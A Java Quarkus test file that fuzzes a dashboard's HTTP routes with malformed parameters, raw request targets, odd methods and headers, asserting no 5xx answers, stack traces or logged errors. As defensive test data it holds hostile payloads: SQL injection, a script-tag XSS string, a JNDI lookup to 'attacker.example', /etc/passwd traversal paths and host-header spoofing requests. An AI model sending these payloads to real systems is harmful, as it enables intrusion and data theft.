package dev.commandcenter.ui;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.commandcenter.ui.access.RawHttp;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import java.net.URL;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Every route with malformed values of every parameter, and requests with weird targets, headers and
 * methods: nothing answers 5xx, no answer carries a stack trace, and nothing is logged as an error.
 */
@QuarkusTest
class HttpSurfaceFuzzTest {

    /** Each route, the parameters it reads, and the others it needs to reach them. */
    private static final Map<String, Route> ROUTES = new LinkedHashMap<>();

    static {
        for (String view : List.of(
                "/",
                "/sources",
                "/agents",
                "/cron",
                "/tasks",
                "/api/sources",
                "/api/views/brief",
                "/api/views/agent-health",
                "/api/views/cron-state",
                "/api/views/task-board")) {
            ROUTES.put(view, new Route(view, Map.of(), List.of("at")));
        }
        List<String> reviewFilters = List.of("at", "repo", "status", "classification", "sort");
        ROUTES.put("/reviews", new Route("/reviews", Map.of(), reviewFilters));
        ROUTES.put("/api/views/review-queue", new Route("/api/views/review-queue", Map.of(), reviewFilters));
        ROUTES.put(
                "transitions",
                new Route(
                        "/api/history/transitions",
                        Map.of("kind", "source"),
                        List.of("kind", "subject", "from", "to", "limit", "cursor")));
        ROUTES.put(
                "availability",
                new Route(
                        "/api/history/availability",
                        Map.of("kind", "source", "subject", "collector"),
                        List.of("kind", "subject", "from", "to", "last")));
        ROUTES.put("/api/log", new Route("/api/log", Map.of(), List.of("source", "subject", "from", "to")));
        for (String other :
                List.of("/q/health", "/q/metrics", "/q/openapi", "/dashboard.css", "/favicon.svg", "/no-such-page")) {
            ROUTES.put(other, new Route(other, Map.of(), List.of("at")));
        }
    }

    private static final List<String> MALFORMED = List.of(
            "",
            " ",
            "abc",
            "1.5",
            "-5",
            "0",
            "-0",
            "+7",
            "99999999999999999999",
            "2147483648",
            "1e9",
            "0x10",
            "NaN",
            "Infinity",
            "-999999999-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59Z",
            "9999-12-31T23:59:59.999999999-18:00",
            "1970-01-01T00:00:00Z",
            "1999-12-31T23:59:59Z",
            "2999-01-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "2026-03-02T25:00:00Z",
            "2026-03-02",
            "2026-03-02T09:00:00",
            "2026-03-02T09:00:00+25:00",
            "'; DROP TABLE observation;--",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/x}",
            "{inject:config}",
            "../../../../etc/passwd",
            "agent:",
            "gitea:pr:owner/repo#12",
            "ünïcødé ✓",
            "\u0000",
            "\t\r\n",
            "a".repeat(10_000),
            "%ZZ",
            "source",
            "agent",
            "job",
            "pr",
            "collector");

    /** HEAD takes the GET route; a few values show it fails the same way. */
    private static final List<String> HEAD_TOO = List.of("abc", "99999999999999999999", "-999999999-01-01T00:00:00Z");

    private static final List<String> RAW_TARGETS = List.of(
            "/api/sources?at=%ZZ",
            "/api/sources?at=%",
            "/api/sources?%=%",
            "/api/history/transitions?kind=source&limit=%FF%FE",
            "/%ZZ",
            "/..%2F..%2Fetc%2Fpasswd",
            "//etc/passwd",
            "/api/sources?at=2026-01-01T00:00:00Z&at=bad",
            "/api/views/brief?at=%00",
            "/reviews?status=%C0%AF",
            "/api/log?source=collector&source=nope",
            "/" + "x".repeat(20_000),
            "/api/sources;jsessionid=x",
            "/api/sources/",
            "/API/SOURCES",
            "/api/./sources",
            "/q/../api/sources");

    private static final List<String> METHODS =
            List.of("OPTIONS", "TRACE", "CONNECT", "PROPFIND", "FOO", "get", "PATCH", "DELETE");

    @TestHTTPResource("/")
    URL base;

    private final List<LogRecord> errors = new CopyOnWriteArrayList<>();
    private final Handler recorder = new Handler() {
        @Override
        public void publish(LogRecord record) {
            if (record.getLevel().intValue() >= Level.SEVERE.intValue() || record.getThrown() != null) {
                errors.add(record);
            }
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };

    @BeforeEach
    void recordErrors() {
        Logger.getLogger("").addHandler(recorder);
    }

    @AfterEach
    void stopRecording() {
        Logger.getLogger("").removeHandler(recorder);
    }

    @Test
    void malformedValuesOfEveryParameterNeverAnswer5xxNorAStackTrace() {
        RestAssuredConfig exact = RestAssuredConfig.config()
                .encoderConfig(EncoderConfig.encoderConfig().defaultQueryParameterCharset("UTF-8"));
        List<String> failures = new ArrayList<>();
        for (Route route : ROUTES.values()) {
            for (String parameter : route.parameters()) {
                for (String value : MALFORMED) {
                    Map<String, String> query = new LinkedHashMap<>(route.required());
                    query.put(parameter, value);
                    for (String method : HEAD_TOO.contains(value) ? List.of("GET", "HEAD") : List.of("GET")) {
                        Response answer =
                                given().config(exact).queryParams(query).request(method, route.path());
                        judge(
                                method + " " + route.path() + " " + parameter + "=" + printable(value),
                                route.path(),
                                answer.statusCode(),
                                answer.contentType(),
                                answer.asString(),
                                failures);
                    }
                }
            }
        }
        assertEquals(List.of(), failures);
        assertEquals(List.of(), describe(errors), "errors logged while answering malformed parameters");
    }

    @Test
    void weirdTargetsHeadersAndMethodsNeverAnswer5xxNorAStackTrace() throws Exception {
        String host = "localhost:" + base.getPort();
        List<String> requests = new ArrayList<>();
        for (String target : RAW_TARGETS) {
            requests.add("GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n");
        }
        for (String method : METHODS) {
            for (String target : List.of("/", "/api/sources", "/q/health", "/dashboard.css", "*")) {
                requests.add(method + " " + target + " HTTP/1.1\r\nHost: " + host + "\r\n");
            }
        }
        requests.add("CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n");
        requests.add("GET http://attacker.example/api/sources HTTP/1.1\r\nHost: " + host + "\r\n");
        requests.add("GET http://" + host + "/api/sources HTTP/1.1\r\nHost: " + host + "\r\n");
        requests.add("GET /api/sources HTTP/1.0\r\n");
        requests.add("GET /api/sources HTTP/9.9\r\nHost: " + host + "\r\n");
        requests.add("GET /api/sources\r\nHost: " + host + "\r\n");
        for (String weirdHost : List.of(
                host + "@attacker.example",
                "a b",
                "localhost:99999",
                "localhost:abc",
                "[::1",
                "[zz]:80",
                "",
                host + ", attacker.example",
                "h".repeat(5_000),
                "lo\u00e7alhost",
                "localhost:" + base.getPort() + "/api")) {
            requests.add("GET /api/sources HTTP/1.1\r\nHost: " + weirdHost + "\r\n");
        }
        requests.add("GET /api/sources HTTP/1.1\r\nHost: " + host + "\r\nHost: attacker.example\r\n");
        for (String header : List.of(
                "Accept: application/json;q=abc",
                "Accept: */*;q=-1",
                "Accept: garbage",
                "Accept: text/html;level=x, application/xhtml+xml",
                "Accept-Encoding: gzip;q=oops",
                "Accept-Charset: nonsense",
                "Accept-Language: ??",
                "Content-Type: \u0001",
                "Content-Length: -1",
                "Content-Length: abc",
                "Range: bytes=abc",
                "Range: bytes=999999999999999999999-",
                "If-Modified-Since: yesterday",
                "If-None-Match: \"",
                "Cookie: " + "c=".repeat(3_000),
                "X-Forwarded-Host: attacker.example",
                "Forwarded: host=attacker.example;for=\"[::1\"",
                "X-Forwarded-For: 100.100.7.7, garbage",
                "Tailscale-User-Login: <script>alert(1)</script>",
                "Upgrade: websocket\r\nConnection: Upgrade",
                "Expect: 100-continue",
                "Expect: nonsense",
                "Bad Header: x",
                "X-Long: " + "v".repeat(20_000),
                "X-Folded: a\r\n folded",
                "Transfer-Encoding: gzip",
                "Authorization: Basic !!!",
                "Origin: null")) {
            for (String target : List.of("/api/sources", "/", "/dashboard.css")) {
                requests.add("GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + header + "\r\n");
            }
        }
        requests.add("GET /api/sources HTTP/1.1\r\nHost: " + host + "\r\nTransfer-Encoding: chunked\r\n"
                + "Connection: close\r\n\r\nzz\r\nnot a chunk\r\n");
        List<String> failures = new ArrayList<>();
        for (String request : requests) {
            String full =
                    request.endsWith("\r\n\r\nzz\r\nnot a chunk\r\n") ? request : request + "Connection: close\r\n\r\n";
            RawHttp.Answer answer = RawHttp.send("127.0.0.1", base.getPort(), full);
            judge(
                    printable(request.lines().findFirst().orElse("")) + " | " + printable(request),
                    "/raw",
                    answer.status(),
                    answer.header("Content-Type"),
                    answer.head() + "\r\n\r\n" + answer.body(),
                    failures);
        }
        assertEquals(List.of(), failures);
        assertEquals(List.of(), describe(errors), "errors logged while answering weird requests");
    }

    private static void judge(
            String what, String path, int status, String contentType, String body, List<String> failures) {
        // 501 is the HTTP codec's answer to a protocol version it does not speak, before any route.
        if (status >= 500 && !(status == 501 && what.contains("HTTP/9.9"))) {
            failures.add(what + " -> " + status);
        }
        for (String trace : List.of(
                "Exception:",
                "Exception\n",
                "\tat ",
                "at dev.commandcenter.",
                "at io.vertx.",
                "at java.",
                "500 - Internal",
                "Internal Server Error",
                "error id")) {
            if (body.contains(trace)) {
                failures.add(what + " -> body shows '" + trace.strip() + "'");
            }
        }
        if (status == 400
                && path.startsWith("/api/")
                && (contentType == null || !contentType.startsWith("application/json"))) {
            failures.add(what + " -> a 400 under /api that is not JSON: " + contentType);
        }
    }

    private static List<String> describe(List<LogRecord> records) {
        return records.stream()
                .map(r -> r.getLevel() + " " + r.getLoggerName() + ": " + r.getMessage()
                        + (r.getThrown() == null ? "" : " / " + r.getThrown()))
                .toList();
    }

    private static String printable(String text) {
        String clean = text.replaceAll("\\p{Cntrl}", "?");
        return clean.length() > 80 ? clean.substring(0, 80) + "…" : clean;
    }

    private record Route(String path, Map<String, String> required, List<String> parameters) {}
}
